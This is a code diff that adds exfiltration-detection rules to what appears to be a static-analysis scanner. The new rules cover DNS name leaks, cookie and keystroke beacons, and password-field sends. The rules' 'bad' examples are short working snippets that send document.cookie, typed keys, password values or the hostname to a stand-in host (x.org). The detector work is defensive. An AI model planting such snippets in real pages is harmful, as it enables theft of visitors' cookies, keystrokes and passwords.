@@ -3,7 +3,19 @@ import { origin, type Value } from '../model.ts'
 import { hostOf, isDropHost, isMetadataHost } from '../paths.ts'
 import type { Rule } from '../rule.ts'
 import { comesFrom, sketch, startOf } from '../values.ts'
-import { code, everything, everywhere, isFalse, isFixed, isRequested, option, python, says } from './ask.ts'
+import {
+  code,
+  everything,
+  everywhere,
+  isFalse,
+  isFixed,
+  isRequested,
+  names,
+  option,
+  python,
+  says,
+  scripts,
+} from './ask.ts'
 
 const host = (effect: Effect): string => hostOf(startOf(effect.target)) ?? startOf(effect.target)
 const sends = (effect: Effect): boolean =>
@@ -92,6 +104,16 @@ export const networkRules: readonly Rule[] = [
       kinds: ['connect'],
       when: effect => {
         const { payload } = effect
+        // A name that nobody has is asked for to tell its owner what it says.
+        if (
+          /^(dns|socket)\b/.test(effect.call?.name ?? '') &&
+          effect.target.kind === 'joined' &&
+          comesFrom(effect.target, origin.file | origin.system)
+        )
+          return {
+            severity: 'high',
+            message: 'Puts facts about this machine or its files into a name that it asks for.',
+          }
         if (comesFrom(effect.target, origin.file | origin.system | origin.environment) && host(effect) !== '')
           return { severity: 'high', message: 'Puts facts about this machine or its files into an address.' }
         if (comesFrom(payload, origin.environment | origin.system))
@@ -104,6 +126,11 @@ export const networkRules: readonly Rule[] = [
       bad: [
         "import requests\nrequests.post('https://x.org', json={'a': 1})",
         "import requests, os\nrequests.post('https://x.org', json=dict(os.environ))",
+        { language: 'javascript', code: "require('dns').lookup(require('os').hostname() + '.x.org', f)" },
+        {
+          language: 'javascript',
+          code: "fetch('https://x.org/?h=' + encodeURIComponent(require('os').hostname()))",
+        },
       ],
       good: ["import requests\nrequests.get('https://x.org')"],
     },
@@ -284,6 +311,60 @@ export const networkRules: readonly Rule[] = [
     examples: {
       bad: ["import pandas as pd\npd.read_csv('https://example.org/a.csv')"],
       good: ["import pandas as pd\npd.read_csv('a.csv')"],
+    },
+  },
+  {
+    id: 'network/page-leaves',
+    languages: scripts,
+    type: 'exfiltration',
+    severity: 'high',
+    cwe: 'CWE-359',
+    description: 'Sends what a visitor types or is known by to an address, in the address of a picture or a request.',
+    recommendation: 'Remove it.',
+    implies: ['connect', 'secrets'],
+    match: {
+      on: 'assignment',
+      when: ({ target, value, how }) =>
+        how === 'assign' &&
+        /(^|\.)(src|href|action)$/.test(target) &&
+        value.kind === 'joined' &&
+        says(value, /^(https?:)?\/\//) &&
+        (comesFrom(value, origin.secret) ||
+          value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|keyCode|target\.value)$/))),
+    },
+    examples: {
+      bad: [
+        "new Image().src = 'https://x.org/?' + document.cookie",
+        "addEventListener('keydown', e => { image.src = 'https://x.org/?' + e.key })",
+      ],
+      good: ["image.src = 'https://x.org/' + name + '.png'", "link.href = '/items/' + e.target.value"],
+    },
+  },
+  {
+    id: 'network/typed-leaves',
+    languages: scripts,
+    type: 'exfiltration',
+    severity: 'medium',
+    cwe: 'CWE-359',
+    description: 'Sends what a visitor types into a password field out.',
+    recommendation: 'Let the form of the page send it, to the page it belongs to.',
+    implies: ['connect', 'secrets'],
+    match: {
+      on: 'effect',
+      kinds: ['connect'],
+      when: ({ target, payload }, { program }) =>
+        /type=["']?password|keydown|keypress|keyup/.test(program.source) &&
+        [target, payload].some(
+          value =>
+            value?.kind === 'joined' &&
+            value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|target\.value|value)$/)),
+        ),
+    },
+    examples: {
+      bad: [
+        "document.querySelector('input[type=password]').onchange = e => fetch('https://x.org/?p=' + e.target.value)",
+      ],
+      good: ["search.onchange = e => fetch('/search?q=' + e.target.value)"],
     },
   },
   {
